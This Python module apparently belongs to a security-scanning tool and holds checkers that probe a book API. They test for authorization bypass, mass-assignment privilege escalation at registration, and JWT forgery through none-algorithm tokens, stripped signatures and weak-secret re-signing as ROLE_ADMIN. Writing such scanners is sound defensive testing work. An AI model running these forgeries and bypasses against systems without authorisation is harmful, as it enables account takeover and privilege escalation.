"""Authorization bypass, mass assignment on registration, and JWT tampering."""

from typing import List, Optional

import jwt

from libprobe.checkers.base import BaseChecker, ADD_BOOK, BOOKS, REGISTER
from libprobe.checkers import payloads as P
from libprobe.checkers.input import _CreatedBooks
from libprobe.core.models import Credential, Finding, Payload, Probe, ProbeResult

_BOOK = {"title": "Hacked Book", "author": "Hacker", "isbn": "999"}


class AuthBypass(_CreatedBooks, BaseChecker):
    """Privileged routes called with a non-admin token or with none at all."""

    name = "Authorization Bypass"
    category = "auth-bypass"
    endpoint = ADD_BOOK
    delay = 0.2

    scenarios = [
        ("user-token POST /api/books", ADD_BOOK, "user"),
        ("no-token POST /api/books", ADD_BOOK, "none"),
        ("no-token GET /api/books", BOOKS, "none"),
    ]

    def __init__(self):
        self._reset_created()

    def get_payloads(self) -> List[Payload]:
        return [Payload(self.category, who, label=label)
                for label, _, who in self.scenarios]

    def _endpoint(self, payload: Payload):
        for label, endpoint, _ in self.scenarios:
            if label == payload.label:
                return endpoint
        raise KeyError(payload.label)

    def execute(self, ctx, payload):
        endpoint = self._endpoint(payload)
        body = dict(_BOOK) if endpoint.method == "POST" else None
        if payload.value == "user":
            token = ctx.user_token()
            if token is None:
                return ProbeResult.failed(payload, endpoint, "no non-privileged account available")
            probe = Probe(endpoint, json=body, token=token)
        else:
            probe = Probe(endpoint, json=body, anonymous=True)
        result = ctx.send(probe, payload)
        self._remember(result)
        return result

    def check(self, result: ProbeResult) -> Optional[Finding]:
        if not result.success:
            return None
        who = "non-admin token" if result.payload.value == "user" else "no token"
        return self.finding(result, "critical", "confirmed",
                            f"{result.endpoint} returned HTTP {result.status_code} with {who}")


class MassAssignment(_CreatedBooks, BaseChecker):
    """
    Register with privileged fields, log in, then try an admin-only action.
    Only the follow-up request decides: a 200 on registration proves nothing.
    """

    name = "Mass Assignment (registration)"
    category = "mass-assignment"
    endpoint = ADD_BOOK
    delay = 0.3

    def __init__(self):
        self._reset_created()

    def get_payloads(self) -> List[Payload]:
        return self.wrap_labelled(P.MASS_ASSIGNMENT)

    def execute(self, ctx, payload):
        cred = Credential(ctx.unique(f"hacker_{payload.label.replace('-', '_')}"), "hacker123")
        registered = ctx.auth.register(cred, role=None, extra=payload.value)
        if not registered:
            return ProbeResult.failed(payload, REGISTER, "registration rejected", registered=False)
        token = ctx.auth.login(cred)
        if token is None:
            return ProbeResult.failed(payload, REGISTER, "login after registration failed",
                                      registered=True)

        result = ctx.send(Probe(self.endpoint, json=dict(_BOOK, title="Mass Assignment Probe"),
                                token=token), payload, registered=True, username=cred.username)
        self._remember(result)
        return result

    def check(self, result: ProbeResult) -> Optional[Finding]:
        if not result.context.get("registered") or not result.success:
            return None
        fields = ", ".join(sorted(result.payload.value))
        return self.finding(result, "high", "confirmed",
                            f"self-registered account ({fields}) performed {result.endpoint}")


class JwtTamper(BaseChecker):
    """Forged and stripped bearer tokens against GET /api/books."""

    name = "JWT Token Tampering"
    category = "jwt"
    endpoint = BOOKS
    delay = 0.1

    CONTROL = "valid-token"
    EMPTY_BEARER = "empty-bearer"

    def get_payloads(self) -> List[Payload]:
        labels = [self.CONTROL, "none-alg", "none-alg-forged", "empty-signature"]
        labels += [f"weak-secret:{s}" for s in P.WEAK_JWT_SECRETS]
        labels.append(self.EMPTY_BEARER)
        return [Payload(self.category, label, label=label) for label in labels]

    @staticmethod
    def forge(token: str, label: str) -> str:
        """Tampered variant of *token*. Raises jwt.DecodeError if token is not a JWT."""
        if label == "none-alg":
            return P.NONE_ALG_TOKEN
        if label == "none-alg-forged":
            return jwt.encode(P.ADMIN_CLAIMS, "", algorithm="none")

        claims = jwt.decode(token, options={"verify_signature": False})
        if label == "empty-signature":
            header, body, _ = token.split(".")
            return f"{header}.{body}."
        if label.startswith("weak-secret:"):
            secret = label.split(":", 1)[1]
            claims.update({"role": "ROLE_ADMIN"})
            header = jwt.get_unverified_header(token)
            alg = header.get("alg", "HS256")
            if not alg.startswith("HS"):
                alg = "HS256"
            return jwt.encode(claims, secret, algorithm=alg)
        raise ValueError(f"unknown tamper {label!r}")

    def execute(self, ctx, payload):
        if payload.label == self.CONTROL:
            return ctx.send(Probe(self.endpoint), payload)
        if payload.label == self.EMPTY_BEARER:
            # "Bearer " with a trailing space is an illegal header value on the wire
            return ctx.send(Probe(self.endpoint, anonymous=True,
                                  headers={"Authorization": "Bearer"}), payload)
        try:
            token = self.forge(ctx.session.token, payload.label)
        except jwt.InvalidTokenError as e:
            return ProbeResult.failed(payload, self.endpoint, f"session token is not a JWT: {e}")
        return ctx.send(Probe(self.endpoint, token=token), payload)

    def check(self, result: ProbeResult) -> Optional[Finding]:
        if result.payload.label == self.CONTROL or not result.success:
            return None
        return self.finding(result, "critical", "confirmed",
                            f"tampered token ({result.payload.label}) accepted")

    def finalize(self, ctx, results: List[ProbeResult]) -> List[Finding]:
        control = next((r for r in results if r.payload.label == self.CONTROL), None)
        if control is not None and not control.success and ctx.logger:
            ctx.logger.warn("Valid token was rejected, tampered-token results are inconclusive")
        return []
